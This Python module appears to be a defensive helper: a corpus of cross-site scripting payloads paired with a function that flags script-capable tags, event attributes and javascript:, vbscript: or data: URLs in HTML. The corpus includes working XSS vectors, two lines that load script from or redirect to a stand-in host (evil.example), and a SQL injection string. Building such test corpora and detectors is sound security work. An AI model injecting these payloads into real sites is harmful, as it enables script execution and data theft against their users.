"""A corpus of cross-site-scripting payloads, and a checker for executable vectors in HTML."""

import re

from bs4 import BeautifulSoup

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.org "onmouseover=alert(1)")',
    "![img](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[a](<javascript:alert(1)>)",
    "<<script>script>alert(1)<</script>/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "' OR 1=1 --",
]

DANGEROUS_TAGS = ["iframe", "object", "embed", "svg", "math", "form", "base", "meta", "img"]
DANGEROUS_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)
URL_ATTRIBUTES = ["href", "src", "action", "formaction", "data", "xlink:href", "poster"]


def executable_vectors(html, *, allow_tags=()):
    """Everything in `html` that could run script: a list of descriptions (empty when safe).

    Scripts are allowed only from this site's static files or as JSON-LD data blocks; the
    page's own forms and meta tags are allowed where the caller says so.
    """
    page = BeautifulSoup(html, "html.parser")
    found = []
    for script in page.find_all("script"):
        if script.get("type") == "application/ld+json" and not script.get("src"):
            continue
        if script.get("src", "").startswith("/static/"):
            continue
        found.append(f"script: {script}")
    for name in DANGEROUS_TAGS:
        if name in allow_tags:
            continue
        found += [f"{name}: {tag}" for tag in page.find_all(name)]
    for tag in page.find_all(True):
        for attribute, value in tag.attrs.items():
            if attribute.lower().startswith("on"):
                found.append(f"event attribute: {tag.name} {attribute}")
            if attribute.lower() in URL_ATTRIBUTES and DANGEROUS_URL.match(str(value)):
                found.append(f"dangerous URL: {tag.name} {attribute}={value}")
            if attribute.lower() == "style" and "javascript" in str(value).lower():
                found.append(f"style: {tag}")
        if tag.name == "meta" and "javascript:" in str(tag.get("content", "")).lower():
            found.append(f"meta refresh: {tag}")
    return found
